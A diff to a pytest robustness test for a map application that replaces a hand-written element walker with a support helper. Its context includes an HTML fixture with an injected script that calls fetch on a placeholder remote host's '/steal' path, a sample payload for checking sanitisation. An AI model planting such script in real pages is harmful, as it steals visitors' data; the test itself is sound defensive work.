@@ -19,6 +19,7 @@ import tomllib
 from pathlib import Path
 
 import pytest
+from _apptest_support import map_args
 from _robustness import PAYLOADS, REPO, STATS
 
 from geo.store import EventStore, store_path
@@ -48,26 +49,12 @@ HTML_ARTICLE = f"""<!doctype html><html><head>
 <script>document.title = "pwned"; fetch("http://{REMOTE}/steal")</script></body></html>"""
 
 
-def _elements(at):
-    def walk(node):
-        children = getattr(node, "children", None)
-        if isinstance(children, dict):
-            children = children.values()
-        for child in children or ():
-            yield child
-            yield from walk(child)
-    return list(walk(at._tree))
-
-
 _DATA_URL = re.compile(r'fetch\("/app/static/mapdata/([0-9a-f]+\.json)"\)')
 
 
 def _map_script(at) -> str:
     """The map's script and the data files it fetches (/app/static/mapdata/*.json)."""
-    comps = [e for e in _elements(at) if type(e).__name__ == "UnknownElement"
-             and "st_folium" in getattr(e.proto, "component_name", "")]
-    assert len(comps) == 1
-    script = json.loads(comps[0].proto.json_args)["script"]
+    script = map_args(at)["script"]
     fetched = [(REPO / "static" / "mapdata" / name).read_text(encoding="utf-8")
                for name in _DATA_URL.findall(script)]
     return "\n".join([script, *fetched])
